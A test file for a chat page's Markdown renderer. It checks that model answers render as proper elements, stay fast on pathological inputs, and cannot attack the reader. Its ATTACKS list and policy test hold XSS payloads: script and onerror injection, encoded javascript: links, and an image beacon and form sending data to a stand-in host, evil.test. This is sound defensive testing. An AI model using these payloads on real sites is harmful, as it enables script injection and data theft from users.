"""What a model writes, as the page shows it: Markdown as elements, and no attack on the reader through it."""

import time
from typing import Any

import pytest

from tests.page.conftest import OpenPage, Served, say

pytestmark = pytest.mark.asyncio(loop_scope="module")

RENDER = """async (text) => {
  const { MarkdownView } = await import("./page/markdown.js");
  const root = document.createElement("div");
  new MarkdownView(root).show(text);
  for (const one of root.querySelectorAll("*")) for (const { name } of [...one.attributes])
    if (!["href", "start"].includes(name)) one.removeAttribute(name);
  for (const one of root.querySelectorAll("input")) if (one.checked) one.setAttribute("checked", "");
  for (const one of root.querySelectorAll("figure > div")) one.remove();
  return root.innerHTML;
}"""
LONGEST_S = 2.0  # for 100,000 characters; what goes back over its text takes minutes

SHOWN = [
    ("one\ntwo\n\nthree", "<p>one<br>two</p><p>three</p>"),
    ("# A `b`\n## C ##\ntext", "<h3>A <code>b</code></h3><h4>C</h4><p>text</p>"),
    ("**a** *b* ***c*** _d_ __e__ ~~f~~", "<p><strong>a</strong> <em>b</em> <strong><em>c</em></strong> "
     "<em>d</em> <strong>e</strong> <del>f</del></p>"),
    ("**a *b* c** 2 * 3 * 4 snake_case_name", "<p><strong>a <em>b</em> c</strong> 2 * 3 * 4 snake_case_name</p>"),
    ("*a **b*** and **a *b***", "<p><em>a <strong>b</strong></em> and <strong>a <em>b</em></strong></p>"),
    ("`a *b*` ``c ` d`` \\*e\\*", "<p><code>a *b*</code> <code>c ` d</code> *e*</p>"),
    ("*never closed", "<p>*never closed</p>"),
    ("1. a\n2. b\n3. c", "<ol><li><p>a</p></li><li><p>b</p></li><li><p>c</p></li></ol>"),
    ("3. a\n   - b\n     - c\n4. d", '<ol start="3"><li><p>a</p>'
     '<ul><li><p>b</p><ul><li><p>c</p></li></ul></li></ul></li>'
     '<li><p>d</p></li></ol>'),
    ("1. a\n  - b\n2. c", "<ol><li><p>a</p><ul><li><p>b</p></li></ul></li><li><p>c</p></li></ol>"),
    ("- a\n\n  ```\n  x\n   y\n  ```\n- b", "<ul><li><p>a</p><figure><pre><code>x\n y</code></pre></figure></li>"
     "<li><p>b</p></li></ul>"),
    ("- [x] done\n- [ ] open", "<ul><li><input checked=\"\"><p>done</p></li><li><input><p>open</p></li></ul>"),
    ("text\n- a\n- b", "<p>text</p><ul><li><p>a</p></li><li><p>b</p></li></ul>"),
    ("> a\n> > b\n\nc", "<blockquote><p>a</p><blockquote><p>b</p></blockquote></blockquote><p>c</p>"),
    ("```python\na < b\n```\nafter", "<figure><pre><code>a &lt; b</code></pre></figure><p>after</p>"),
    ("````\n```\n````", "<figure><pre><code>```</code></pre></figure>"),
    ("```\nnot closed", "<figure><pre><code>not closed</code></pre></figure>"),
    ("a|b\n-|:-:\n1|2|3\nx\\|y|z", "<div><table><thead><tr><th>a</th><th>b</th></tr></thead>"
     "<tbody><tr><td>1</td><td>2</td></tr><tr><td>x|y</td><td>z</td></tr></tbody></table></div>"),
    ("a\n\n---\n\nb", "<p>a</p><hr><p>b</p>"),
    ("[a *b*](https://example.org/x_(y) \"t\")", '<p><a href="https://example.org/x_(y)">a <em>b</em></a></p>'),
    ("see https://example.org/a_b?c=d. (http://example.org/(x))",
     '<p>see <a href="https://example.org/a_b?c=d">https://example.org/a_b?c=d</a>. '
     '(<a href="http://example.org/(x)">http://example.org/(x)</a>)</p>'),
    ("<https://example.org/> <mailto:a@example.org> a<br>b",
     '<p><a href="https://example.org/">https://example.org/</a> '
     '<a href="mailto:a@example.org">mailto:a@example.org</a> a<br>b</p>'),
    ("\\(a_1 * b\\) and 3 < 4", "<p><code>\\(a_1 * b\\)</code> and 3 &lt; 4</p>"),
    ("[[a](https://a.org)](https://b.org)", '<p><a href="https://b.org/">[a](https://a.org)</a></p>'),
]  # fmt: skip

# What is written, and how it is to stand there: as text, or as a link that leads elsewhere only when it is followed.
ATTACKS = {
    "script": "<script>window.hacked = 1</script>",
    "onerror": '<img src=x onerror="window.hacked = 2">',
    "svg": "<svg onload=window.hacked=3></svg>",
    "iframe": '<iframe src="https://evil.test/"></iframe><object data="https://evil.test/"></object>',
    "style": "<style>@import 'https://evil.test/a.css'; body { display: none }</style>",
    "javascript": "[a](javascript:window.hacked=4) [b](JaVaScRiPt:window.hacked=5) <javascript:window.hacked=6>",
    "encoded": "[a](java\tscript:window.hacked=7) [b](&#106;avascript:window.hacked=8) "
    "[c](\x01javascript:window.hacked=9)",
    "data": "[a](data:text/html,<script>window.hacked=10</script>) [b](vbscript:x) [c](file:///etc/passwd) [d](blob:x)",
    "picture": "![beacon](https://evil.test/steal?q=secret) ![x](javascript:window.hacked=11) "
    "![][1]\n\n[1]: https://evil.test/",
    "link_with_picture": "[![a](https://evil.test/a.png)](javascript:window.hacked=12)",
    "attribute": '[a](https://evil.test/"onmouseover="window.hacked=13) <a href="javascript:window.hacked=14">x</a>',
    "title": '[a](https://evil.test/ "x\\" onclick=\\"window.hacked=15")',
    "relative": "[a](/v1/sessions) [b](page/main.js) [c](#activity) [d](//evil.test/x)",
    "pretends": "[https://bank.test](https://user:pass@evil.test/) <https://bank.test@evil.test/>",
    "language": '```"><script>window.hacked=16</script>\ncode\n```',
    "table": "| a |\n|---|\n| <img src=x onerror=window.hacked=17> |",
    "heading": "# <img src=x onerror=window.hacked=18>",
    "form": '<form action="https://evil.test/"><input name=key><button>Send</button></form>'
    '<base href="https://evil.test/">',
    "meta": '<meta http-equiv="refresh" content="0;url=https://evil.test/">'
    '<link rel=stylesheet href="https://evil.test/">',
}  # fmt: skip
ELEMENTS = "script, img, svg:not(.rates), iframe, object, embed, style, form, base, meta, link, video, audio, source"

SLOW = {
    "stars": "*" * 100_000,
    "open_stars": "*a " * 33_000,
    "mixed": "*a **b _c __d " * 7_000,
    "brackets": "[" * 100_000,
    "links": "[a](" * 25_000,
    "nested_links": "[" * 300 + "a" + "](u)" * 300,
    "spaces_in_links": ("[a](" + " " * 2000 + "x ") * 50,
    "ticks": " ".join("`" * (number % 300 + 1) for number in range(600)),
    "quotes": "> " * 50_000,
    "quote_lines": ("> " * 20 + "a\n") * 2_000,
    "items": "- " * 50_000,
    "item_lines": "".join(" " * (2 * (number % 30)) + "- a\n" for number in range(5_000)),
    "table": "|" + "a|" * 60 + "\n|" + "-|" * 60 + "\n" + "|a\n" * 10_000,
    "wide_table": "|" + "a|" * 20_000 + "\n|" + "-|" * 20_000 + "\n",
    "spaces": "# a" + " " * 100_000 + "b",
    "fences": "```\n" * 25_000,
    "angles": "<" * 100_000,
    "addresses": "http://" * 14_000,
    "backslashes": "\\(" * 50_000,
    "lines": "a\n" * 50_000,
    "unicode": "é\u202e" * 50_000,
}


async def test_markdown_is_shown_as_elements(served: Served, open_page: OpenPage) -> None:
    page = await open_page(served[0].url)
    wrong = [(text, shown, want) for text, want in SHOWN if (shown := await page.evaluate(RENDER, text)) != want]
    assert wrong == []


async def test_a_text_that_grows_is_shown_as_if_it_had_come_at_once_and_keeps_what_stands(
    served: Served, open_page: OpenPage
) -> None:
    page = await open_page(served[0].url)
    grow = """async (texts) => {
      const { MarkdownView } = await import("./page/markdown.js");
      const wrong = [];
      for (const text of texts) {
        const [grown, once] = [document.createElement("div"), document.createElement("div")];
        const view = new MarkdownView(grown);
        let first = null;
        for (let end = 1; end <= text.length; end += 1) {
          view.show(text.slice(0, end));
          if (view.shown.length === 3) first ??= grown.firstChild;
        }
        new MarkdownView(once).show(text);
        if (grown.innerHTML !== once.innerHTML || (first && first !== grown.firstChild)) wrong.push(text);
      }
      return wrong;
    }"""
    assert await page.evaluate(grow, [text for text, _ in SHOWN] + ["a\n\nb\n\nc\n\n" + SHOWN[8][0]]) == []


async def test_no_attack_in_an_answer_reaches_the_reader(served: Served, open_page: OpenPage, subtests: Any) -> None:
    live, script = served
    page = await open_page(live.url)  # which fails if another host is asked, or the policy is broken
    for number, (name, attack) in enumerate(ATTACKS.items(), 1):
        with subtests.test(name):
            script.add(f"Before.\n\n{attack}\n\nAfter.")
            await say(page, f"Attack me: {attack}")
            await page.locator(".message.assistant .figures").nth(number - 1).wait_for()
            assert await page.evaluate("window.hacked") is None
            assert await page.locator("#messages").locator(ELEMENTS).count() == 0
            found = await page.evaluate(LINKS_AND_LISTENERS)
            assert found["listeners"] == []
            for address in found["addresses"]:
                assert address.startswith(("https://", "http://", "mailto:"))
                assert "@" not in address.partition("//")[2].partition("/")[0]
            assert all(rel == "noopener noreferrer nofollow" for rel in found["relations"])
            assert await page.evaluate("document.title") == "Tandem"
            assert page.url == f"{live.url}/"


LINKS_AND_LISTENERS = """() => {
  const all = [...document.querySelectorAll("#messages *")];
  const links = all.filter((one) => one.localName === "a");
  return {
    addresses: links.map((one) => one.getAttribute("href")),
    relations: links.map((one) => one.rel),
    listeners: all.flatMap((one) => [...one.attributes]).map(({ name }) => name)
      .filter((name) => /^on|^style$|^srcdoc$/.test(name)),
  };
}"""


async def test_what_would_get_past_the_reader_of_markdown_is_stopped_by_the_policy(
    served: Served, open_page: OpenPage
) -> None:
    """Each line does what a fault in the page would do, and says whether the browser let it."""
    page = await open_page(served[0].url)
    failures: list[str] = []
    page.on("requestfailed", lambda one: failures.append(one.failure))
    tried = await page.evaluate("""async () => {
      const stopped = {};
      const attempt = async (name, act) => {
        const violation = new Promise((resolve) =>
          document.addEventListener("securitypolicyviolation", () => resolve(true), { once: true }));
        try { await act(); } catch (error) { stopped[name] = error.name; }
        const seen = await Promise.race([violation, new Promise((resolve) => setTimeout(resolve, 1000, false))]);
        stopped[name] ??= seen;
      };
      const add = (tag, fields) => document.body.append(Object.assign(document.createElement(tag), fields));
      await attempt("markup", () => { document.body.innerHTML = "<b>x</b>"; });
      await attempt("eval", () => { (0, eval)("1"); });
      await attempt("picture", () => add("img", { src: "https://evil.test/x.png" }));
      await attempt("frame", () => add("iframe", { src: "https://evil.test/" }));
      await attempt("ask", () => fetch("https://evil.test/"));
      await attempt("style", () => document.body.setAttribute("style", "color: red"));
      await attempt("form", () => {
        add("form", { id: "evil", action: "https://evil.test/" });
        document.getElementById("evil").submit();
      });
      return stopped;
    }""")
    assert all(tried.values()), tried
    assert set(tried) == {"markup", "eval", "picture", "frame", "ask", "style", "form"}
    asked = [one for one in page.complaints if one.startswith("request")]
    assert failures == ["csp"] * len(asked), "none of them left the browser"
    page.complaints.clear()


async def test_a_fault_that_let_markup_through_would_be_seen(served: Served, open_page: OpenPage) -> None:
    """The checks of the attacks see an element that is not text."""
    page = await open_page(served[0].url)
    await page.get_by_text("Ask scripted").wait_for()
    await page.evaluate("""() => {
      const link = document.createElement("a");
      link.setAttribute("href", "javascript:1");
      document.getElementById("messages").append(document.createElement("img"), link);
    }""")
    assert await page.locator("#messages").locator(ELEMENTS).count() == 1
    assert (await page.evaluate(LINKS_AND_LISTENERS))["addresses"] == ["javascript:1"]


async def test_no_text_keeps_the_page_busy(served: Served, open_page: OpenPage, subtests: Any) -> None:
    page = await open_page(served[0].url)
    await page.evaluate(RENDER, "warm")
    time_it = """async (text) => {
      const { MarkdownView } = await import("./page/markdown.js");
      const began = performance.now();
      new MarkdownView(document.createElement("div")).show(text);
      return (performance.now() - began) / 1000;
    }"""
    began = time.monotonic()
    for name, text in SLOW.items():
        with subtests.test(name):
            assert await page.evaluate(time_it, text) < LONGEST_S
    print(f"{len(SLOW)} texts in {time.monotonic() - began:.1f} s")
